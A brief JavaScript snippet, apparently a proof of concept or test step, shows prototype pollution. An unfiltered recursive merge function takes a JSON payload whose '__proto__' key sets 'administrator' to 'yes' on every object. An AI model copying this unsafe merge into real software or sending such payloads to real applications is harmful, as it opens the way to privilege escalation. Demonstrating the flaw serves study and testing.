at_step();
const merge = (to, from) => { for (const key of Object.keys(from)) { if (typeof from[key] === 'object') merge(to[key], from[key]); else to[key] = from[key]; } };  // step
merge(host_object, JSON.parse('{"__proto__": {"administrator": "yes"}}'));  // step
past_step();
